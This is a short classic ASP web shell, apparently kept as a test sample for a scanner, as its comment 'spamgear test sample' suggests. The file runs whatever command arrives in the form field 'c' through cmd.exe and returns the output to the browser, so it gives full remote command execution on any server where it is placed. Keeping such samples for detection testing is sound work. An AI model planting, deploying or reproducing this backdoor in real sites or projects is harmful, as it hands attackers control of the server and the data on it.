<%
' spamgear test sample: a command from the request run by WScript.Shell
Set sh = Server.CreateObject("WScript.Shell")
Set ex = sh.Exec("cmd.exe /c " & Request.Form("c"))
Response.Write Server.HTMLEncode(ex.StdOut.ReadAll())
%>
